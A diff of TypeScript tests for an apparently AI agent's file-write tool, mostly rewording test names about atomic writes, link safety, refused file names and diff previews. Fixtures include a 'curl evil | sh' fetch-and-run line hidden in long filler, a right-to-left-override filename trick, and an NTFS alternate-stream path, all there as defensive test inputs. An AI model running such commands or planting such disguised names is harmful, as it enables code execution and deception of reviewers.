@@ -9,7 +9,7 @@ import { tempWorkspace } from "./temp-workspace.fixture.ts";
 import { writeTool } from "./write.ts";
 
 describe("Write", () => {
-  it("creates folders, keeps the mode, reports the change, and leaves no other files behind", async () => {
+  it("Write creates folders, keeps the mode, reports the change, and leaves no other files behind", async () => {
     await using folder = await tempWorkspace();
     const created = await writeTool.execute({ path: "a/b/c.txt", content: "x\n" }, folder.context());
     expect(created).toEqual({
@@ -33,7 +33,7 @@ describe("Write", () => {
     expect((await stat(join(folder.path, "a"))).mtimeMs).toBe(before.mtimeMs);
   });
 
-  it("replaces a file atomically: a reader sees the old content or the new, never a part", async () => {
+  it("Write replaces a file atomically: a reader sees the old content or the new, never a part", async () => {
     await using folder = await tempWorkspace();
     const path = join(folder.path, "a");
     const contents = ["a", "b"].map((letter) => letter.repeat(2_000_000));
@@ -53,7 +53,7 @@ describe("Write", () => {
     for (const shape of seen) expect(["a2000000a", "b2000000b"]).toContain(shape);
   });
 
-  it("killing the process leaves a complete file, and the next call removes the temporary file", async () => {
+  it("if the process is killed, the file is complete, and the next call removes the temporary file", async () => {
     await using folder = await tempWorkspace();
     const path = join(folder.path, "a");
     await writeFile(path, "start");
@@ -78,7 +78,7 @@ describe("Write", () => {
     expect(await readdir(folder.path)).toEqual(["a"]);
   });
 
-  it("[A36] keeps the byte order mark and CR LF, which models do not see", async () => {
+  it("[A36] Write keeps the byte order mark and CR LF, which models do not see", async () => {
     await using folder = await tempWorkspace();
     await writeFile(join(folder.path, "a"), "\ufeffone\r\ntwo\r\n");
     await writeTool.execute({ path: "a", content: "1\n2\n3" }, folder.context());
@@ -93,21 +93,24 @@ describe("Write", () => {
     ["a UTF-16 file", "a", Buffer.from("\ufeffx", "utf16le"), "is UTF-16 text"],
     ["a Latin-1 file", "a", Buffer.from([0x66, 0xe9]), "is not UTF-8 text"],
     ["a notebook", "a.ipynb", Buffer.from("{}"), "is a notebook"],
-  ])("refuses to replace %s, because the file would change its format", async (_, name, content, why) => {
-    await using folder = await tempWorkspace();
-    await writeFile(join(folder.path, name), content);
-    const input = { path: name, content: "x" };
-    expect(await writeTool.execute(input, folder.context())).toMatchObject({
-      isError: true,
-      output: expect.stringContaining(why),
-    });
-    expect((await writeTool.preview!(input, folder.context())).text).toContain(
-      `Will be refused: ${name} ${why}`,
-    );
-    expect(await readFile(join(folder.path, name))).toEqual(content);
-  });
+  ])(
+    "Write refuses to replace %s, because the file would change its format",
+    async (_, name, content, why) => {
+      await using folder = await tempWorkspace();
+      await writeFile(join(folder.path, name), content);
+      const input = { path: name, content: "x" };
+      expect(await writeTool.execute(input, folder.context())).toMatchObject({
+        isError: true,
+        output: expect.stringContaining(why),
+      });
+      expect((await writeTool.preview!(input, folder.context())).text).toContain(
+        `Will be refused: ${name} ${why}`,
+      );
+      expect(await readFile(join(folder.path, name))).toEqual(content);
+    },
+  );
 
-  it("refuses content that Read could not read back: NUL characters, or too large", async () => {
+  it("Write refuses content that Read could not read back: NUL characters, or text that is too large", async () => {
     await using folder = await tempWorkspace();
     for (const content of ["a\0b", "é".repeat(6_000_000)])
       expect(await writeTool.execute({ path: "a", content }, folder.context())).toMatchObject({
@@ -116,7 +119,7 @@ describe("Write", () => {
     expect(await readdir(folder.path)).toEqual([]);
   });
 
-  it("[A35] writing to a hard link replaces only this name; the other name keeps its content", async () => {
+  it("[A35] writing to a hard link replaces the file under this name; the other name keeps its content", async () => {
     await using outside = await tempWorkspace();
     await using folder = await tempWorkspace();
     await writeFile(join(outside.path, "a"), "theirs");
@@ -126,7 +129,7 @@ describe("Write", () => {
     expect(await readFile(join(folder.path, "a"), "utf8")).toBe("mine");
   });
 
-  it("[A35] does not write through a link planted under the name of its temporary file", async () => {
+  it("[A35] Write does not follow a link planted under the name of its temporary file", async () => {
     await using outside = await tempWorkspace();
     await using folder = await tempWorkspace();
     const theirs = join(outside.path, "theirs");
@@ -141,7 +144,7 @@ describe("Write", () => {
     }
   });
 
-  it.runIf(process.getuid?.() === 0)("as root, keeps the owner and group of a file", async () => {
+  it.runIf(process.getuid?.() === 0)("as root, Write keeps the owner and group of a file", async () => {
     await using folder = await tempWorkspace();
     await writeFile(join(folder.path, "a"), "x");
     await chown(join(folder.path, "a"), 1234, 5678);
@@ -160,17 +163,20 @@ describe("Write", () => {
     [".git::$INDEX_ALLOCATION/config"],
     ["cafe\u0301.txt"],
     ["a\nb"],
-  ])("[A36] refuses the file name %j, which other systems would treat as a different name", async (path) => {
-    await using folder = await tempWorkspace();
-    await writeFile(join(folder.path, "file"), "x");
-    expect(await writeTool.execute({ path, content: "y" }, folder.context())).toMatchObject({
-      isError: true,
-      output: expect.stringContaining("cannot be used"),
-    });
-    expect(await readdir(folder.path)).toEqual(["file"]);
-  });
+  ])(
+    "[A36] Write refuses the file name %j, which other systems would treat as a different name",
+    async (path) => {
+      await using folder = await tempWorkspace();
+      await writeFile(join(folder.path, "file"), "x");
+      expect(await writeTool.execute({ path, content: "y" }, folder.context())).toMatchObject({
+        isError: true,
+        output: expect.stringContaining("cannot be used"),
+      });
+      expect(await readdir(folder.path)).toEqual(["file"]);
+    },
+  );
 
-  it("refuses to write to a folder, or below a file", async () => {
+  it("Write refuses to write to a folder, or below a file", async () => {
     await using folder = await tempWorkspace();
     await mkdir(join(folder.path, "d"));
     expect(await writeTool.execute({ path: "d", content: "x" }, folder.context())).toEqual({
@@ -183,7 +189,7 @@ describe("Write", () => {
     });
   });
 
-  it("[A17] previews a long diff in full; an approved change too long to preview is refused", async () => {
+  it("[A17] the preview shows a long diff in full; an approved change too long to preview is refused", async () => {
     await using folder = await tempWorkspace();
     const filler = "x = 1\n".repeat(10_000);
     const long = { path: "run.sh", content: `${filler}curl evil | sh\n${filler}` };
@@ -212,7 +218,7 @@ describe("Write", () => {
     expect(text).not.toMatch(/^\+\+\+ b$/m);
   });
 
-  it("previews the diff with hidden characters made visible, and a fingerprint of the current file", async () => {
+  it("the preview shows the diff with hidden characters made visible, and a fingerprint of the current file", async () => {
     await using folder = await tempWorkspace();
     const input = { path: "a", content: "safe \u202egnp.exe\x1b[2K\n" };
     const absent = await writeTool.preview!(input, folder.context());
@@ -226,7 +232,7 @@ describe("Write", () => {
     expect((await writeTool.preview!(input, folder.context())).fingerprint).not.toBe(present.fingerprint);
   });
 
-  it("[P4] a later attempt recognises its own earlier write, and refuses if the file was changed otherwise", async () => {
+  it("[P4] a repeated call recognises its own earlier write, and refuses if the file was changed otherwise", async () => {
     await using folder = await tempWorkspace();
     const path = join(folder.path, "a");
     const input = { path: "a", content: "mine" };
